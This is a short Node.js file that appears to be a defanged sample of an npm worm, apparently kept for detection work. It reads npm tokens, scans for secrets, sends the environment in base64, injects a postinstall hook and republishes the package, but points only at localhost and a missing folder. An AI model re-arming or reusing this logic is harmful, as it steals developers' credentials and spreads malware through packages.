// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const { execSync } = require('child_process');
const fs = require('fs');
const path = require('path');
const http = require('http');
const HOME = path.join(__dirname, 'no-such-home');

function token() {
  try {
    return /_authToken=(.+)/.exec(fs.readFileSync(path.join(HOME, '.npmrc'), 'utf8'))[1];
  } catch {
    return process.env.NPM_TOKEN;
  }
}

function scan() {
  try {
    return execSync('./no-such-trufflehog filesystem ' + HOME + ' --json').toString();
  } catch {
    return '';
  }
}

function spread(folder) {
  const manifest = path.join(folder, 'package.json');
  const json = JSON.parse(fs.readFileSync(manifest));
  json.scripts = { ...json.scripts, postinstall: 'node bundle.js' };
  fs.mkdirSync(path.join(__dirname, 'marker'), { recursive: true });
  fs.writeFileSync(path.join(__dirname, 'marker', 'package.json'), JSON.stringify(json));
  if (process.env.NEVER_SET_FOR_SAMPLES) execSync('npm publish --access public', { cwd: folder });
}

const request = http.request({ host: '127.0.0.1', port: 9, method: 'POST' });
request.on('error', () => {});
request.end(Buffer.from(JSON.stringify({ env: process.env, npm: token(), found: scan() })).toString('base64'));
spread(__dirname);
